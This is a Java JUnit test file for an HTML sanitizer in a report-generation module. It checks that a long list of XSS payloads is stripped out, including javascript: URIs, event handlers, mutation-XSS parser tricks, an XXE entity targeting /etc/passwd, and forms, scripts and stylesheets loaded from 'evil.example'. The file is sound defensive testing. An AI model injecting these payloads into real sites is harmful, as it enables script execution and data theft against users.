package it.sportellocertificati.report.html;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Attacks that are known to have got through other cleaners, among them those whose meaning changes when HTML is read twice. */
class AttacksTest {

    @ParameterizedTest
    @MethodSource
    void leavesNothingThatRunsOrIsFetched(String attack) {
        String clean =
                TextCleaning.clean("<p>prima</p>" + attack + "<p>dopo</p>").html();
        assertThat(clean).contains("<p>prima</p>");
        for (Element element : Jsoup.parseBodyFragment(clean).body().getAllElements()) {
            assertThat(element.normalName())
                    .as(clean)
                    .isIn(
                            "body", "p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "strong", "em", "a", "img", "br",
                            "figure", "table", "caption", "thead", "tbody", "tr", "th", "td");
            element.attributes().forEach(attribute -> {
                assertThat(attribute.getKey())
                        .as(clean)
                        .isIn("href", "src", "alt", "scope", "colspan", "rowspan", "data-figure");
                if (attribute.getKey().equals("href")) {
                    assertThat(attribute.getValue()).as(clean).matches("(?i)(https?://|mailto:).*");
                }
                if (attribute.getKey().equals("src")) {
                    assertThat(attribute.getValue()).as(clean).startsWith("data:image/");
                }
            });
        }
    }

    static Stream<String> leavesNothingThatRunsOrIsFetched() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<img src=x onerror=alert(1)>",
                "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
                "<img src='data:text/html;base64,PHNjcmlwdD4=' alt=x>",
                "<img src=\"https://evil.example/pixel.png\" alt=\"x\">",
                "<img src=\"//evil.example/pixel.png\">",
                "<img src=`javascript:alert(1)`>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
                "<a href=\"java&#x0A;script:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\" \u0001javascript:alert(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"https://ok.example\" onclick=\"alert(1)\" style=\"position:fixed\">x</a>",
                "<a href=\"//evil.example\">x</a>",
                "<a href='https://a.example/\"onmouseover=\"alert(1)'>x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
                "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
                "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<noembed><img src=\"</noembed><iframe onload=alert(1)>\">",
                "<template><script>alert(1)</script></template>",
                "<iframe src=javascript:alert(1)></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=javascript:alert(1)></object>",
                "<embed src=javascript:alert(1)>",
                "<form action=https://evil.example><input name=p><button>ok</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<body onload=alert(1)>",
                "<base href=https://evil.example/>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<p style=\"background:url(https://evil.example/x)\">x</p>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!--><script>alert(1)</script>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
                "<figure data-figure='\"><script>alert(1)</script>'></figure>",
                "<figure data-figure=\"x\" onclick=alert(1)></figure>",
                "<td colspan=\"1 onmouseover=alert(1)\">x</td>",
                "<table background=javascript:alert(1)><tr><td>x</table>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<video><source onerror=alert(1)></video>",
                "<xss style=\"behavior:url(xss.htc)\">",
                "<a href=\"https://e.example/&#x3C;script&#x3E;\">x</a>",
                "<textarea><img src=x onerror=alert(1)></textarea>",
                "<select><style></select><img src=x onerror=alert(1)></style>",
                "<table><td><a><p></table><img src=x onerror=alert(1)>",
                "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
                "<img data-picture=\"0\" alt=\"x\">",
                "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
                "<".repeat(3000) + "<b>".repeat(3000));
    }

    @Test
    void saysWhatWasTakenOut() {
        assertThat(TextCleaning.clean("<p onclick='x()'>a</p><script>x()</script>")
                        .notes())
                .containsExactly("report.clean.script");
        assertThat(TextCleaning.clean("<p><a href='javascript:x()'>a</a></p>").notes())
                .containsExactly("report.clean.link");
        assertThat(TextCleaning.clean("<p>a<img src='https://elsewhere.example/a.png'></p>")
                        .notes())
                .containsExactly("report.clean.picture");
        assertThat(TextCleaning.clean("<p><span style='color:red'>a</span></p>").notes())
                .isEmpty();
    }

    @Test
    void keepsWordsThatLookLikeMarkup() {
        assertThat(TextCleaning.clean("<p>se a &lt; b &amp;&amp; b &gt; c</p>").html())
                .isEqualTo("<p>se a &lt; b &amp;&amp; b &gt; c</p>");
    }
}
